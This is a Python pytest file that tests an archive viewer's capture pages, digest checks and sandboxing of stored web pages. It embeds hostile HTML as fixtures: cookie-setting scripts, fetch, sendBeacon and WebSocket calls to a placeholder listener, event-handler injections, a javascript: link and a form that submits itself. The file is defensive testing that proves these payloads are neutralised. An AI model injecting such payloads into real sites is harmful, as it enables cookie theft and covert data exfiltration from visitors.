"""What proves a row, in the browser: a capture's place, whether it is whole, the page as it was.

The page of one article is hostile: it tries whatever a page can to run, set, load and send.
"""

import gzip
import hashlib
import re
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from presidency_scraper.demo.replica import ReplicaSite, Request, Response, demo_site, serve_replica
from tests.browser import Page, open_browser
from tests.conftest import HTML, crawl, query
from tests.serving import DELETED, EDITED, NEEDS_DATASETTE, Serving, edit_article, make_due, serve

pytestmark = NEEDS_DATASETTE
HEAD = """
<meta http-equiv="refresh" content="0;url={there}/refresh">
<meta http-equiv="set-cookie" content="stolen=1">
<link rel="preconnect" href="{there}"><link rel="dns-prefetch" href="{there}">
<LINK rel="stylesheet" href="{there}/a.css"><link rel="prefetch" href="{there}/prefetch">
<link rel="preload" as="image" href="{there}/preload"><link rel="prerender" href="{there}/render">
<link rel="icon" href="{there}/icon"><link rel="manifest" href="{there}/manifest">
<link rel="modulepreload" href="{there}/module.js">
<style>@import url("{there}/b.css"); body {{ background: url({there}/c.png) }}
@font-face {{ font-family: x; src: url({there}/font) }} p {{ font-family: x }}</style>
<script>document.title = "stolen"; document.cookie = "stolen=1"; fetch("{there}/fetch")
localStorage.stolen = 1; new WebSocket("ws{there}".replace("http", "")); open("{there}/open")
location = "{there}/gone"; navigator.sendBeacon("{there}/beacon")</script>
<script src="{there}/d.js"></script><script type="module" src="{there}/e.js"></script>
<script type="speculationrules">{{"prerender": [{{"urls": ["{there}/spec"]}}]}}</script>
"""
BODY = """
<img src="{there}/e.png" onerror="document.title='stolen'" srcset="{there}/f.png 2x">
<svg onload="document.title='stolen'"><image href="{there}/g.png"/><use href="{there}/h.svg#x"/>
<script>document.title='stolen'</script><style>@import "{there}/j.css";</style>
</svg><input type="image" src="{there}/k.png"><table background="{there}/l.png"></table>
<iframe src="{there}/frame"></iframe><iframe srcdoc="<script src='{there}/i.js'></script>">
</iframe><object data="{there}/object"></object><embed src="{there}/embed">
<video src="{there}/video" poster="{there}/poster" autoplay></video><audio src="{there}/a" autoplay>
</audio><form id="f" action="{there}/form"><input name="q" autofocus
 onfocus="this.form.submit()"></form><details open ontoggle="document.title='stolen'">x</details>
<a id="run" href="javascript:document.title='stolen'">x</a>
<a id="ping" href="#there" ping="{there}/ping">y</a>
<button id="send" form="f">z</button>
"""


@dataclass
class Ear:
    """A port that hears whoever connects."""

    port: int
    heard: list[bytes] = field(default_factory=list)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def listening() -> Iterator[Ear]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        ear = Ear(server.getsockname()[1])

        def hear() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(0.2)
                    try:
                        ear.heard.append(connection.recv(200) or b"connected")
                    except OSError:
                        ear.heard.append(b"connected")

        thread = threading.Thread(target=hear, daemon=True)
        thread.start()
        yield ear
        server.shutdown(socket.SHUT_RDWR)
    thread.join(timeout=5)


@pytest.fixture(scope="module")
def ear() -> Iterator[Ear]:
    with listening() as ear:
        yield ear


@pytest.fixture(scope="module")
def past(tmp_path_factory: pytest.TempPathFactory, ear: Ear) -> Path:
    """Of eight articles one is edited and its page hostile since, another is gone."""
    db = tmp_path_factory.mktemp("evidence") / "data" / "past.db"
    site = ReplicaSite(demo_site().items("bg")[:8])

    def poison(request: Request, real: Response) -> Response:
        packed = real.headers.get("Content-Encoding") == "gzip"
        page = gzip.decompress(real.body) if packed else real.body
        for evil, end in ((HEAD, b"</head>"), (BODY, b"</body>")):
            page = page.replace(end, evil.format(there=ear.address).encode() + end)
        return Response(200, HTML | {"Set-Cookie": "stolen=1"}, page)

    with serve_replica(site) as server:
        crawl(server.origin, db)
        edit_article(site)
        site.fail(f"/bg/news{EDITED.rpartition('/')[2]}/", poison)
        site.delete(DELETED)
        make_due(db, EDITED, DELETED)
        for _ in range(3):
            crawl(server.origin, db)
    assert query(db, "SELECT revision FROM articles WHERE id = ?", EDITED) == [(2,)]
    return db


@pytest.fixture(scope="module")
def web(past: Path) -> Iterator[Serving]:
    with serve(past) as serving:
        yield serving


@pytest.fixture(scope="module")
def browser() -> Iterator[Page]:
    with open_browser() as page:
        yield page


def hostile_capture(past: Path) -> int:
    [(capture,)] = query(past, "SELECT capture_id FROM articles WHERE id = ?", EDITED)
    return int(capture)


def test_an_article_and_each_of_its_revisions_leads_to_what_proves_it(
    web: Serving, past: Path
) -> None:
    page = web.ask(f"/articles/{EDITED}").text
    proofs = query(past, "SELECT capture_id FROM revisions WHERE article_id = ?", EDITED)
    assert len(proofs) == 2
    for (capture,) in proofs:
        assert f'href="/captures/{capture}"' in page


def test_a_capture_shows_where_it_stands_and_that_it_is_whole(web: Serving, past: Path) -> None:
    capture = hostile_capture(past)
    chosen = "SELECT url, warc_file, warc_offset, digest, length FROM captures WHERE id = ?"
    [(url, file, offset, digest, length)] = query(past, chosen, capture)
    answer = web.ask(f"/captures/{capture}")
    for said in (url, file, f"byte {offset:,}", digest, f"{length:,} bytes", "revision 2"):
        assert said in answer.text
    assert "Whole: the digests" in answer.text
    assert f'href="/captures/{capture}/page"' in answer.text


def test_every_capture_of_a_crawl_is_proved_or_has_no_content(web: Serving, past: Path) -> None:
    for capture, kept in query(past, "SELECT id, digest IS NOT NULL FROM captures"):
        text = web.ask(f"/captures/{capture}").text
        assert "Whole: the digests" in text, capture
        assert web.ask(f"/captures/{capture}/page").status == (200 if kept else 404)


def test_a_deleted_article_says_since_when_and_is_not_said_to_be_on_the_site(
    web: Serving, past: Path
) -> None:
    page = web.ask(f"/articles/{DELETED}").text
    [(miss,)] = query(past, "SELECT first_capture_id FROM absences")
    assert "No longer on the site since" in page
    assert f'<a href="/captures/{miss}">' in page
    assert "on the site</a>" not in page
    assert "status 404" in web.ask(f"/captures/{miss}").text


def test_what_is_not_there_is_a_page_that_says_so(web: Serving) -> None:
    for path in ("/captures/999999", "/captures/999999/page", "/captures/0/page"):
        answer = web.ask(path)
        assert (answer.status, "No such capture" in answer.text) == (404, True)


def test_a_changed_byte_of_the_archive_is_seen(past: Path, tmp_path: Path) -> None:
    [(file, offset)] = query(
        past, "SELECT warc_file, warc_offset FROM captures WHERE id = ?", hostile_capture(past)
    )
    archive = tmp_path / "archive"
    archive.mkdir()
    data = bytearray((past.with_name("past-archive") / file).read_bytes())
    data[offset + 60] ^= 1
    (archive / file).write_bytes(data)
    with serve(past, "--archive", str(archive)) as damaged:
        text = damaged.ask(f"/captures/{hostile_capture(past)}").text
        assert "Cannot be proved" in text
        assert file in text
        other = damaged.ask("/captures/1").text
    assert "Cannot be proved" in other or "Whole" in other


def test_an_archived_page_is_what_was_served_but_for_tags_that_connect(
    web: Serving, past: Path
) -> None:
    capture = hostile_capture(past)
    answer = web.ask(f"/captures/{capture}/page")
    same = re.sub(r"<x-(?=link|meta|iframe|object|embed)", "<", answer.text, flags=re.I).encode()
    [(digest,)] = query(past, "SELECT digest FROM captures WHERE id = ?", capture)
    assert hashlib.sha256(same).hexdigest() == digest
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert answer.headers["set-cookie"] is None
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'")
    assert "base-uri 'none'" in policy


def test_robots_txt_is_a_file_and_no_page(web: Serving, past: Path) -> None:
    [(robots,)] = query(past, "SELECT min(id) FROM captures WHERE outcome = 'robots'")
    headers = web.ask(f"/captures/{robots}/page").headers
    assert headers["content-type"] == "application/octet-stream"
    assert headers["content-disposition"].startswith("attachment")


def test_an_archived_page_runs_sets_loads_and_sends_nothing(
    web: Serving, past: Path, ear: Ear, browser: Page
) -> None:
    ear.heard.clear()
    browser.open(f"{web.address}captures/{hostile_capture(past)}")
    browser.asked.clear()
    browser.click("a[href$='/page']")
    address = f"{web.address}captures/{hostile_capture(past)}/page"
    for selector in ("#run", "#ping", "#send"):
        place = f"document.querySelector('{selector}').getBoundingClientRect()"
        box = browser.run(f"(b => [b.x + 2, b.y + 2])({place})")
        for kind in ("mousePressed", "mouseReleased"):
            browser.call(
                "Input.dispatchMouseEvent",
                type=kind,
                x=box[0],
                y=box[1],
                button="left",
                clickCount=1,
            )
    time.sleep(1.5)  # what a page begins later, as a refresh
    assert browser.run("location.href").split("#")[0] == address
    assert browser.run("document.title") != "stolen"
    assert browser.call("Network.getAllCookies")["cookies"] == []
    assert ear.heard == []
    assert browser.run("document.body.innerText.includes('Япония')")
    assert browser.run("self.origin") == "null"


def test_the_ear_hears_the_same_page_where_nothing_holds_it(
    past: Path, ear: Ear, browser: Page, tmp_path: Path
) -> None:
    """So that silence above means something."""
    ear.heard.clear()
    page = tmp_path / "page.html"
    page.write_text((HEAD + "<body>" + BODY).format(there=ear.address), encoding="utf-8")
    browser.call("Page.navigate", url=page.as_uri())
    time.sleep(1.5)
    assert len(ear.heard) > 5
